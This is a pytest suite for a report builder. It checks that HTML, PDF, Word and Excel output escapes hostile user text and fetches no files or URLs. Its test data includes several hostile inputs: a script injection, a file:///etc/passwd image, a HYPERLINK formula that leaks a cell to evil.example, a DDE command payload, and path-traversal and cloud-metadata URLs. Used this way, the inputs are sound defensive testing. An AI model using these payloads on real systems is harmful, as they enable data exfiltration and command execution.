"""User text is inert in every format: markup stays text, no file or network is ever fetched,
no spreadsheet cell runs as a formula, no Word field comes from user text."""

import io
import urllib.request
import zipfile

import pytest
from weasyprint import HTML

from goals.core.choices import RAG
from reports.builder import build_report, report_period
from reports.renderers import render
from reports.renderers.pdf import BASE_URL, RefusedURL, StaticFilesOnly
from tests import factories
from tests.reports.conftest import pdf_text

SCRIPT = '<script>alert("pwned")</script>'
IMAGE = "<img src=file:///etc/passwd>"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
NARRATIVE = f"{FORMULA} {SCRIPT} {IMAGE}"


@pytest.fixture
def hostile(db):
    """A quarter whose every kind of user text carries markup, a local-file image and formulas."""
    strategy = factories.StrategyFactory(
        name=f"Care {SCRIPT}", slug="hostile", vision=IMAGE, success_statements=[FORMULA]
    )
    sro = factories.PersonFactory(name="=cmd|' /C calc'!A0", job_title=f"@SUM(1+1) {SCRIPT}")
    goal = factories.GoalFactory(
        strategy=strategy,
        order=1,
        title=f"{IMAGE} Goal",
        description=NARRATIVE,
        objectives_text=f"- {SCRIPT}\n- {FORMULA}",
    )
    objective = factories.ObjectiveFactory(
        goal=goal,
        order=1,
        title=f"+1+1 {SCRIPT}",
        commitments=NARRATIVE,
        aims=FORMULA,
        risk_register_entry=IMAGE,
        risk_register_reference="-2+3",
    )
    objective.lead_directors.add(sro)
    period = factories.PeriodFactory(strategy=strategy, year=2024, quarter=2)
    action = factories.ActionFactory(
        objective=objective, number=1, title=f"{SCRIPT} {IMAGE}", description=FORMULA, sros=[sro]
    )
    factories.ActionUpdateFactory(
        action=action,
        period=period,
        rag=RAG.RED,
        progress=NARRATIVE,
        impact=FORMULA,
        next_focus=f"- {IMAGE}\n- {FORMULA}",
        rag_reason=f"{SCRIPT} late",
    )
    measure = factories.SuccessMeasureFactory(objective=objective, order=1, title=FORMULA)
    factories.MeasureEvidenceFactory(
        measure=measure, period=period, evidence=NARRATIVE, impact=SCRIPT, next_focus=FORMULA
    )
    risk = factories.RiskFactory(strategy=strategy, number="01", title=NARRATIVE)
    risk.goals.add(goal)
    factories.RiskScoreFactory(risk=risk, period=period, score=16)
    return lambda layout: build_report(period=report_period("hostile", "2024-Q2"), layout=layout)


LAYOUTS = ["progress", "highlight"]


@pytest.mark.parametrize("layout", LAYOUTS)
def test_html_escapes_markup_and_loads_nothing(hostile, layout):
    html = render(hostile(layout), "html").decode()
    assert "<script" not in html and "<img" not in html
    assert "&lt;script&gt;alert(&quot;pwned&quot;)&lt;/script&gt;" in html
    assert "&lt;img src=file:///etc/passwd&gt;" in html
    assert 'src="' not in html and 'href="http' not in html


@pytest.mark.parametrize("layout", LAYOUTS)
def test_pdf_prints_markup_as_text_and_fetches_nothing(hostile, layout, monkeypatch):
    report = hostile(layout)
    fetched = []
    original = StaticFilesOnly.fetch

    def spy(self, url, headers=None):
        fetched.append(url)
        return original(self, url, headers)

    def no_network(*args, **kwargs):
        raise AssertionError("the PDF renderer tried to open a URL itself")

    monkeypatch.setattr(StaticFilesOnly, "fetch", spy)
    monkeypatch.setattr(urllib.request.OpenerDirector, "open", no_network)
    pdf = render(report, "pdf")
    assert fetched == [f"{BASE_URL}static/css/report.css"]  # our stylesheet, and nothing else
    text = pdf_text(pdf)
    assert SCRIPT in text and IMAGE in text and FORMULA in text
    for marker in (b"/URI", b"/JavaScript", b"/JS ", b"/Launch", b"/EmbeddedFile", b"root:x:0:0"):
        assert marker not in pdf


@pytest.mark.parametrize("layout", LAYOUTS)
def test_word_keeps_markup_as_text_and_has_no_fields_or_links_from_user_text(hostile, layout):
    content = render(hostile(layout), "docx")
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        document = package.read("word/document.xml").decode()
        relationships = "".join(package.read(n).decode() for n in package.namelist() if n.endswith(".rels"))
    assert "&lt;script&gt;" in document and "<script" not in document
    assert "HYPERLINK" not in "".join(part.split("</w:instrText>")[0] for part in document.split("<w:instrText")[1:])
    assert "<w:hyperlink" not in document and "<w:fldSimple" not in document
    assert 'TargetMode="External"' not in relationships and "file:///" not in relationships
    from docx import Document

    word = Document(io.BytesIO(content))
    text = "\n".join([p.text for p in word.paragraphs] + [c.text for t in word.tables for r in t.rows for c in r.cells])
    assert FORMULA in text and SCRIPT in text and IMAGE in text


@pytest.mark.parametrize("layout", LAYOUTS)
def test_excel_never_starts_a_cell_with_a_formula(hostile, layout):
    from openpyxl import load_workbook

    workbook = load_workbook(io.BytesIO(render(hostile(layout), "xlsx")))
    texts = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r")), (sheet.title, cell.value)
                    texts.append(cell.value)
    assert "'" + FORMULA + f" {SCRIPT} {IMAGE}" in texts  # the update, shown as text
    assert any(t.startswith("'=cmd|' /C calc'!A0, @SUM(1+1)") for t in texts)  # the SRO (a DDE payload), as text


def test_characters_xml_cannot_hold_are_dropped_not_fatal(db):
    action = factories.ActionFactory(
        title="Bell\x07 and unit separator\x1f characters"
    )  # PostgreSQL refuses NUL itself
    strategy = action.objective.goal.strategy
    period = factories.PeriodFactory(strategy=strategy)
    factories.ActionUpdateFactory(action=action, period=period, progress="Vertical\x0btab")
    report = build_report(period=report_period(strategy.slug, period.slug), layout="progress")
    for name in ("docx", "xlsx", "pdf", "html"):
        assert render(report, name)


# --- The PDF's URL fetcher ---------------------------------------------------------------------


def test_the_url_fetcher_serves_our_own_static_files():
    response = StaticFilesOnly().fetch(f"{BASE_URL}static/css/report.css")
    assert response.read().startswith(b"/*") and response.content_type == "text/css"


@pytest.mark.parametrize(
    "url",
    [
        "file:///etc/passwd",
        "FILE:///etc/passwd",
        "http://example.com/logo.png",
        "https://169.254.169.254/latest/meta-data/",
        f"{BASE_URL}etc/passwd",
        f"{BASE_URL}static/../../../../etc/passwd",
        f"{BASE_URL}static/%2e%2e/%2e%2e/settings.py",
        f"{BASE_URL}static/no-such-file.css",
        "https://strategy-tracker.invalid.evil.example/static/css/report.css",
        "data:text/plain,hello",
        "ftp://example.com/x",
    ],
)
def test_the_url_fetcher_refuses_files_the_network_and_everything_else(url):
    with pytest.raises(RefusedURL):
        StaticFilesOnly().fetch(url)


def test_weasyprint_with_the_fetcher_never_reads_a_local_file(monkeypatch):
    refused = []
    original = StaticFilesOnly.fetch

    def spy(self, url, headers=None):
        try:
            return original(self, url, headers)
        except RefusedURL:
            refused.append(url)
            raise

    monkeypatch.setattr(StaticFilesOnly, "fetch", spy)
    html = (
        '<link rel="stylesheet" href="http://example.com/x.css"><p>Hello</p>'
        '<img src="file:///etc/passwd"><img src="/static/../../etc/passwd">'
    )
    pdf = HTML(string=html, base_url=BASE_URL, url_fetcher=StaticFilesOnly()).write_pdf()
    assert b"root:x:0:0" not in pdf
    assert sorted(refused) == sorted(["http://example.com/x.css", "file:///etc/passwd", f"{BASE_URL}etc/passwd"])
